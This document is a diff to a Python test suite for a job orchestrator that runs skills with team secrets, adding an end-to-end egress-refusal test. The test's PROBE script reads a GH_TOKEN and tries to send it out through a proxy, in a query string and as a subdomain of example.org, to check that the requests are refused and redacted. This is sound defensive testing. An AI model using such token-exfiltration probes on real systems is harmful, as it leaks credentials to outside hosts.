@@ -25,9 +25,12 @@ import redis
 from pydantic import BaseModel
 
 from orchestrator.dispatch import QueueDispatcher
+from orchestrator.egress import EgressStore
 from orchestrator.skills import create_default_skill_repository
+from tests.attacks.held import py
 from tests.attacks.test_secret_attacks import (  # noqa: F401 - the secrets fixtures
     SECRET,
+    _services,
     key,
     leaked,
     put_secret,
@@ -36,15 +39,22 @@ from tests.attacks.test_secret_attacks import (  # noqa: F401 - the secrets fixt
     services,
     store,
 )
+from tests.egress_hosts import ALLOWED, allowed_server  # noqa: F401 - the allowed host's server
 from tests.integration.conftest import worker_env  # noqa: F401 - the queue's worker settings
 from tests.orchestrator.api_helpers import client, new_team
 from tests.orchestrator.conftest import model_server  # noqa: F401 - the scripted model
 from worker import jobs
 from worker.contract import RunRequest, RunResult
+from worker.errors import SecretError
 from worker.redaction import IDENTITY_FIELDS, Redactor, forms_of, redact_result
 from worker.run_store import RedisRunStore, RunStatus
-from worker.errors import SecretError
-from worker.secrets import MAX_TEAM_SECRET_BYTES, MAX_VALUE_BYTES, FileSecretStore, RedisSecretStore, SecretBox
+from worker.secrets import (
+    MAX_TEAM_SECRET_BYTES,
+    MAX_VALUE_BYTES,
+    FileSecretStore,
+    RedisSecretStore,
+    SecretBox,
+)
 
 MiB = 1024 * 1024
 TAINTED = f"before {SECRET} after"
@@ -141,11 +151,11 @@ async def test_the_heartbeat_goes_on_while_a_run_is_redacted(redis_url, worker_e
     monkeypatch.setattr(jobs, "redact_result", observed)
     ref = create_default_skill_repository(str(secret_library)).skill_ref("github")
     dispatcher = QueueDispatcher(redis_url)
-    store = RedisRunStore(redis.Redis.from_url(redis_url))
+    runs = RedisRunStore(redis.Redis.from_url(redis_url))
     try:
         request = RunRequest(skill=ref, command='echo "t:$GH_TOKEN"', secrets=["GH_TOKEN"])
         run_id = (await dispatcher.submit(request, owner="team-a")).id
-        await asyncio.to_thread(jobs.execute_stored_run, store, run_id, "redaction-test")
+        await asyncio.to_thread(jobs.execute_stored_run, runs, run_id, "redaction-test")
         ended = await dispatcher.get(run_id)
     finally:
         await dispatcher.close()
@@ -207,7 +217,7 @@ LONG_TOKEN = "ghs_" + "Wr4pp3dT0k3nV4lu3" * 6
 
 
 @pytest.mark.parametrize("command", [pytest.param(command, id=name) for name, command in WRAPPED])
-async def test_a_secret_in_wrapped_base64_or_hex_never_comes_back(services, command):
+async def test_a_secret_in_wrapped_base64_or_hex_never_comes_back(services, command):  # noqa: F811
     async with client(services, new_team(services, "team-a")) as api:
         await put_secret(api, "GH_TOKEN", LONG_TOKEN)
         answer = (await run(api, skill="github", command=command, secrets=["GH_TOKEN"])).json()
@@ -228,3 +238,49 @@ def test_a_team_holds_at_most_1_mib_of_secrets_and_a_refused_one_stores_nothing(
     secrets.set("team-b", "ONE_MORE", "x" * 1024)  # another team is not counted
     assert sorted(info.name for info in secrets.list("team-a")) == sorted(big)
     assert secrets.reveal("team-a", ["BIG_0"]) == {"BIG_0": "y" * 1024}
+
+
+# ---- egress refusals, end to end -----------------------------------------------------------------------------------
+
+PROBE = py("""
+    import os, socket
+    host, port = os.environ["HTTP_PROXY"].rsplit("/", 1)[1].split(":")
+    token, allowed = os.environ["GH_TOKEN"], os.environ["ALLOWED"]
+    for head in (f"POST http://{allowed}/?token={token} HTTP/1.1\\r\\nHost: {allowed}\\r\\nContent-Length: 0",
+                 f"CONNECT {token}.example.org:443 HTTP/1.1\\r\\nHost: {token}.example.org:443",
+                 f"GET http://{token}.example.org/x HTTP/1.1\\r\\nHost: {token}.example.org"):
+        with socket.create_connection((host, int(port)), timeout=20) as proxy:
+            proxy.sendall(head.encode() + b"\\r\\n\\r\\n")
+            print(proxy.recv(4096).split(b"\\r\\n")[0].decode())
+    """)
+
+
+@pytest.fixture
+async def egress_services(work_root, allowed_server, store, model_server):  # noqa: F811
+    library = work_root.parent / "egress-secret-library"
+    folder = library / "caller"
+    folder.mkdir(parents=True)
+    (folder / "SKILL.md").write_text(
+        "---\nname: caller\ndescription: Calls an API with a token.\nmetadata:\n  secrets: [GH_TOKEN]\n"
+        f"  egress: ['{ALLOWED}:{allowed_server}', '*.example.org']\n---\nx\n")
+    for path in [library, *library.rglob("*")]:
+        path.chmod(0o755 if path.is_dir() else 0o644)
+    built = _services(work_root, library, store, model_server.base_url)
+    EgressStore(built.teams.docs).set("team-a", [f"{ALLOWED}:{allowed_server}", "*.example.org"])
+    yield built, f"{ALLOWED}:{allowed_server}"
+    await built.close()
+
+
+@pytest.mark.root
+async def test_a_secret_in_a_refused_requests_query_or_host_never_comes_back(egress_services):
+    built, allowed = egress_services
+    async with client(built, new_team(built, "team-a")) as api:
+        await put_secret(api, "GH_TOKEN", SECRET)
+        answer = (await run(api, skill="caller", command=PROBE, secrets=["GH_TOKEN"], env={"ALLOWED": allowed}))
+        listed = await api.get("/v1/runs")
+    result = answer.json()["result"]
+    assert result["stdout"].split("\n")[:1] == ["HTTP/1.1 405 Method Not Allowed"], result
+    assert result["egress_refused"] == 3
+    assert [refusal["destination"] for refusal in result["egress_refusals"]] == [
+        allowed, "[redacted:GH_TOKEN].example.org:443", "[redacted:GH_TOKEN].example.org:80"]
+    assert leaked(answer.text) == [] and leaked(listed.text) == []
